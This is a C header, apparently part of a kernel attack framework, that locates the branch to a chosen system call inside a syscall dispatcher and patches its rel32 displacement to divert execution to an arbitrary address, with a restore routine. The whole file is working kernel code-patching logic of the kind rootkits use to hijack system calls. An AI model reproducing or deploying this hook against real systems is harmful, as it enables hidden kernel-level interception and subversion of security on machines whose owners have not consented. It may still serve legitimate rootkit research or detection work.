/* SPDX-License-Identifier: GPL-2.0-only */
/* Finds, in a system call dispatcher, the branch to one system call, and turns it elsewhere. */
#ifndef KSMA_SYSCALL_SWITCH_H
#define KSMA_SYSCALL_SWITCH_H

#include "attack.h"

typedef asmlinkage long (*syscall_fn)(const struct pt_regs *regs);
static unsigned long switch_branch; /* address of the instruction */
static unsigned int switch_rel_at;  /* offset of its rel32 */
static syscall_fn switch_original;

static inline int switch_aim(unsigned long to)
{
	s32 rel = (s32)(to - (switch_branch + switch_rel_at + 4));

	return attack_write((void *)(switch_branch + switch_rel_at), &rel, sizeof(rel));
}

/* The pattern "opcode rel32" with exactly this target is not met by chance. */
static inline int switch_hook(const char *function, const char *target, unsigned long to)
{
	unsigned long start = attack_symbol(function), goal = attack_symbol(target), size, at;

	if (!start || !goal)
		return -ENOENT;
	size = attack_size(start);
	for (at = start; at + 6 <= start + size; at++) {
		const u8 *b = (const u8 *)at;

		if (b[0] == 0xe8 || b[0] == 0xe9)
			switch_rel_at = 1;
		else if (b[0] == 0x0f && (b[1] & 0xf0) == 0x80)
			switch_rel_at = 2;
		else
			continue;
		if (at + switch_rel_at + 4 + *(const s32 *)(b + switch_rel_at) != goal)
			continue;
		switch_branch = at;
		switch_original = (syscall_fn)goal;
		return switch_aim(to);
	}
	attack_log("failed=no-branch function=%s target=%s", function, target);
	return -ENOENT;
}

static inline void switch_restore(void)
{
	switch_aim((unsigned long)switch_original);
}

#endif
